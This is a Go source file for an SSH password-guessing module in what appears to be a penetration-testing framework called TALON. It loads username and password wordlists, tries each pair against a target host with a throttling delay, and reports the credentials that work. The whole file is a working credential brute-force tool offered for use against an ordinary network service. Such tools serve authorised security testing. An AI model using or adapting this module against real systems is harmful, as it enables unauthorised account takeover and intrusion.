package module

import (
	"fmt"
	"time"

	"github.com/rs/zerolog"
	"github.com/talon-framework/talon/internal/brute"
	"github.com/talon-framework/talon/internal/proto"
	sdk "github.com/talon-framework/talon/pkg/sdk/v1"
)

// SSHBruteModule performs a throttled sequential password-guessing run
// against an SSH service.
type SSHBruteModule struct {
	log zerolog.Logger

	// attempt overrides the SSH collaborator in tests.
	attempt func(host string, port int, timeout time.Duration) brute.AttemptFunc
}

func (m *SSHBruteModule) Meta() sdk.ModuleMeta {
	return sdk.ModuleMeta{
		ID:          "ssh.login-brute",
		Name:        "SSH Login Brute Force",
		Version:     "1.0.0",
		Description: "Attempts username/password pairs against an SSH service, one connection per attempt, with a configurable delay between attempts.",
		Service:     "ssh",
		RiskClass:   sdk.RiskNoisy,
		Options: []sdk.OptionSpec{
			{Name: "host", Kind: sdk.KindString, Description: "Target host or IP"},
			{Name: "port", Kind: sdk.KindInt, Default: 22, Description: "SSH port"},
			{Name: "users", Kind: sdk.KindString, Description: "Username, or path to a username wordlist"},
			{Name: "passwords", Kind: sdk.KindString, Description: "Password, or path to a password wordlist"},
			{Name: "user_as_pass", Kind: sdk.KindBool, Default: false, Description: "Also try each username as its own password"},
			{Name: "delay_ms", Kind: sdk.KindInt, Default: 500, Description: "Delay between attempts in milliseconds"},
			{Name: "timeout_ms", Kind: sdk.KindInt, Default: 5000, Description: "Per-connection timeout in milliseconds"},
		},
		References: []string{
			"https://attack.mitre.org/techniques/T1110/001/",
		},
		Author: "TALON Core",
	}
}

func (m *SSHBruteModule) Run(ctx sdk.RunContext, prog sdk.Progress) sdk.RunResult {
	host := ctx.AnswerString("host")
	if host == "" {
		return sdk.ErrResult(fmt.Errorf("host is required"))
	}

	users, err := brute.LoadList(ctx.AnswerString("users"))
	if err != nil {
		return sdk.ErrResult(fmt.Errorf("loading users: %w", err))
	}
	passwords, err := brute.LoadList(ctx.AnswerString("passwords"))
	if err != nil {
		return sdk.ErrResult(fmt.Errorf("loading passwords: %w", err))
	}

	pairs := brute.Generate(users, passwords, ctx.AnswerBool("user_as_pass"))

	attemptFactory := m.attempt
	if attemptFactory == nil {
		attemptFactory = proto.SSHAttempt
	}
	timeout := time.Duration(ctx.AnswerInt("timeout_ms")) * time.Millisecond
	attempt := attemptFactory(host, ctx.AnswerInt("port"), timeout)

	delay := time.Duration(ctx.AnswerInt("delay_ms")) * time.Millisecond
	exec := brute.NewExecutor(delay, prog, m.log)

	valid, err := exec.Run(pairs, attempt)
	if err != nil {
		return sdk.ErrResult(fmt.Errorf("ssh brute aborted after %d valid pairs: %w", len(valid), err))
	}
	if len(valid) == 0 {
		return sdk.RunResult{}
	}

	return sdk.RunResult{
		Outputs: map[string]any{
			"valid_pairs":   pairStrings(valid),
			"valid_count":   len(valid),
			"attempt_count": len(pairs),
			"host":          host,
		},
	}
}

func pairStrings(pairs []brute.Pair) []string {
	out := make([]string, 0, len(pairs))
	for _, p := range pairs {
		out = append(out, p.User+":"+p.Password)
	}
	return out
}
